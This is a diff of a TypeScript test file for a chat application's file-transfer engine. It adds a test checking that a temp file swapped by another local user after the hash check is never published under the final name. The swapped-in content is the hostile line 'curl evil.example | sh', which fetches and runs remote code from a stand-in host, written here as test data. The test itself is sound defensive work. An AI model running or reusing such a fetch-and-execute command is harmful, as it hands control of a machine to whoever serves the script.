@@ -1,10 +1,11 @@
 /**
  * The file-transfer engine (PROTOCOL.md §16) against the real relay binary: an offer whose name is a path traversal
  * (which `chat send-file` itself can never produce) is saved under a sanitised name inside the downloads directory,
- * and a download whose whole-file hash does not match the signed offer leaves nothing under the final name.
+ * a download whose whole-file hash does not match the signed offer leaves nothing under the final name, and a temp
+ * file swapped under its name after the check is never published under the final name.
  */
 import { createHash, randomBytes } from 'node:crypto';
-import { existsSync, readFileSync, readdirSync } from 'node:fs';
+import { existsSync, readFileSync, readdirSync, renameSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { MessageKind, encodeFileOffer, generateFileKey, sealChunk, streamSealedSize } from '@chat/crypto';
@@ -86,6 +87,30 @@ it('a whole-file hash that does not match the offer: FILE_HASH_MISMATCH, nothing
     const dir = join(t.dir, 'dl-hash');
     await expect(acceptFile(m, id, dir)).rejects.toMatchObject({ code: 'FILE_HASH_MISMATCH' });
     expect(readdirSync(dir)).toEqual([]);
+  } finally {
+    m.close();
+  }
+});
+
+it('a temp file swapped after the last chunk is not published: DOWNLOAD_PATH_UNSAFE, the final name never appears', async () => {
+  // Another local user who can write the downloads directory renames our verified temp file away and puts their own
+  // under its name between the hash check and the move to the final name (the move used to go by path).
+  const id = await offerRaw('invoice.txt', Buffer.from('the real content'));
+  const m = await receive();
+  try {
+    const dir = join(t.dir, 'dl-swap');
+    const part = join(dir, `.invoice.txt.${id}.part`);
+    const swap = () => {
+      renameSync(part, join(dir, 'stolen'));
+      writeFileSync(part, 'curl evil.example | sh\n');
+    };
+    const onProgress = (p: { done: number; total: number }) => {
+      if (p.done === p.total) swap();
+    };
+    await expect(acceptFile(m, id, dir, { onProgress })).rejects.toMatchObject({ code: 'DOWNLOAD_PATH_UNSAFE' });
+    expect(existsSync(join(dir, 'invoice.txt'))).toBe(false);
+    expect(readFileSync(part, 'utf8')).toBe('curl evil.example | sh\n'); // theirs is left where they put it
+    expect(m.store.files.get(id)).not.toMatchObject({ state: 'received' });
   } finally {
     m.close();
   }
